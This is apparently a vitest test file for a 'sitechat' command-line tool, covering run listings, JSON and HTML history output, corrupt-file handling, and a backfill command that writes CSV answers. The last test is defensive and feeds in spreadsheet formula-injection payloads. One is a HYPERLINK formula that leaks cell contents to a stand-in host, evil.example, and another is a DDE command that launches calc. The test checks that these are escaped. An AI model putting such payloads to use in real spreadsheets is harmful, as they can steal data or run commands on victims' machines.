import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI, sitechat } from '../helpers/cli';
import { seedRuns } from '../helpers/seedRuns';

describe('sitechat runs (a runs directory with several finished runs)', () => {
  let dir: string;
  let env: Record<string, string>;
  beforeAll(async () => {
    if (!existsSync(CLI)) throw new Error('run `npm run build` first (npm test does)');
    dir = mkdtempSync(join(tmpdir(), 'sitechat-runs-'));
    env = { SITECHAT_RUNS_DIR: join(dir, 'runs') };
    const p = 'passed' as const;
    const f = 'failed' as const;
    await seedRuns(join(dir, 'runs'), [
      { runId: '20260101-0200-aaaaaa', startedAt: '2026-01-01T02:00:00Z', outcomes: [p, p, p, f], failUnder: 0.7 },
      { runId: '20260102-0200-bbbbbb', startedAt: '2026-01-02T02:00:00Z', outcomes: [p, f, f, 'error'], failUnder: 0.7 },
      { runId: '20260103-0200-cccccc', startedAt: '2026-01-03T02:00:00Z', outcomes: [p, p], siteId: 'site-b', model: 'model-x' },
      { runId: '20260104-0200-dddddd', startedAt: '2026-01-04T02:00:00Z', outcomes: ['answered', 'timed_out'], kind: 'backfill', dataset: '/data/other.csv' },
    ]);
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('lists them newest first: when, dataset, site, model, rows, pass rate, uncertain, errors, verdict', async () => {
    const ran = await sitechat(dir, ['runs'], env);
    expect(ran.code, ran.stderr).toBe(0);
    const lines = ran.stdout.trimEnd().split('\n');
    expect(lines[0]?.split(/\s{2,}/u)).toEqual(['run', 'started (UTC)', 'dataset', 'site', 'model', 'rows', 'pass rate', 'uncertain', 'errors', 'verdict']);
    expect(lines.slice(1).map((l) => l.split(/\s{2,}/))).toEqual([
      ['20260104-0200-dddddd', '2026-01-04 02:00', 'other.csv', 'site-a', '-', '2', '-', '-', '1', 'none (backfill)'],
      ['20260103-0200-cccccc', '2026-01-03 02:00', 'questions.csv', 'site-b', 'model-x', '2', '100.0%', '0', '0', 'no quality threshold set'],
      ['20260102-0200-bbbbbb', '2026-01-02 02:00', 'questions.csv', 'site-a', '-', '4', '33.3%', '0', '1', 'FAILED'],
      ['20260101-0200-aaaaaa', '2026-01-01 02:00', 'questions.csv', 'site-a', '-', '4', '75.0%', '0', '0', 'PASSED'],
    ]);
  });

  it('filters by dataset and site, limits, and prints JSON', async () => {
    const ran = await sitechat(dir, ['runs', '--dataset', 'questions.csv', '--site', 'site-a', '--limit', '1', '--json'], env);
    expect(ran.code, ran.stderr).toBe(0);
    const runs = JSON.parse(ran.stdout) as { runId: string; passRate: number; errorRate: number; verdict: string; reportHtml: string }[];
    expect(runs).toHaveLength(1);
    expect(runs[0]).toMatchObject({ runId: '20260102-0200-bbbbbb', passRate: 1 / 3, errorRate: 0.25, verdict: 'failed', reportHtml: join(dir, 'runs', '20260102-0200-bbbbbb', 'report.html') });
  });

  it('--html writes runs/history.html, linked to each report; --html FILE elsewhere', async () => {
    const ran = await sitechat(dir, ['runs', '--html'], env);
    expect(ran.code, ran.stderr).toBe(0);
    expect(ran.stderr).toContain(`history: ${join(dir, 'runs', 'history.html')}`);
    const html = readFileSync(join(dir, 'runs', 'history.html'), 'utf8');
    // One trend per (dataset, site, model); the backfill is listed apart, not on a trend.
    expect(html.match(/<svg /g)).toHaveLength(2);
    expect(html).toContain('<a href="20260101-0200-aaaaaa/report.html">');
    expect(html).toContain('20260104-0200-dddddd/report.html');
    const other = await sitechat(dir, ['runs', '--html', join(dir, 'pages', 'h.html'), '--site', 'site-b'], env);
    expect(other.code, other.stderr).toBe(0);
    const page = readFileSync(join(dir, 'pages', 'h.html'), 'utf8');
    expect(page).toContain('<a href="../runs/20260103-0200-cccccc/report.html">');
    expect(page).not.toContain('20260101-0200-aaaaaa');
  });

  it('a corrupt summary.json: its run left out with a warning naming the file, the others listed, exit 0 (also --html)', async () => {
    const runs = join(dir, 'corrupt');
    await seedRuns(runs, [
      { runId: 'ok-1', startedAt: '2026-02-01T02:00:00Z', outcomes: ['passed'] },
      { runId: 'bad-2', startedAt: '2026-02-02T02:00:00Z', outcomes: ['passed'] },
    ]);
    const file = join(runs, 'bad-2', 'summary.json');
    writeFileSync(file, readFileSync(file, 'utf8').slice(0, 40));
    const ran = await sitechat(dir, ['runs', '--html'], { SITECHAT_RUNS_DIR: runs });
    expect(ran.code, ran.stderr).toBe(0);
    expect(ran.stdout).toMatch(/^ok-1 /mu);
    expect(ran.stdout).not.toContain('bad-2');
    const warnings = ran.stderr.split('\n').filter((l) => l.startsWith('warning: '));
    expect(warnings).toEqual([expect.stringMatching(new RegExp(`^warning: ${file} is not valid JSON \\(.+\\): run bad-2 is left out$`, 'u'))]);
    expect(readFileSync(join(runs, 'history.html'), 'utf8')).toContain('ok-1/report.html');
  });

  it('an empty runs directory is not an error', async () => {
    const ran = await sitechat(dir, ['runs'], { SITECHAT_RUNS_DIR: join(dir, 'none') });
    expect(ran.code).toBe(0);
    expect(ran.stderr).toMatch(/no finished runs in/);
  });
});

describe('sitechat backfill writes a spreadsheet-safe answers.csv (embedded Temporal dev server and simulator)', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'sitechat-backfill-csv-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('questions starting with = and @ are written as text, not formulas', async () => {
    const questions = ['=HYPERLINK("http://evil.example/?leak="&A1,"How much does the Personal plan cost?")', "=cmd|'/C calc'!A0", '@SUM(1+1) how much storage is free?', '+1 How do I cancel?', '-1 Which payment methods?'];
    const file = join(dir, 'evil.csv');
    writeFileSync(file, `id,question\n${questions.map((q, i) => `q${i},"${q.replace(/"/g, '""')}"`).join('\n')}\n`);
    const ran = await sitechat(dir, ['backfill', file, '--out', join(dir, 'answers.csv')]);
    expect(ran.code, ran.stderr).toBe(0);
    const records = parse(readFileSync(join(dir, 'answers.csv'), 'utf8')) as string[][];
    expect(records).toHaveLength(questions.length + 1);
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/u);
    const question = records[0]?.indexOf('question') ?? -1;
    expect(records.slice(1).map((r) => r[question])).toEqual(questions.map((q) => `'${q}`));
  });
});
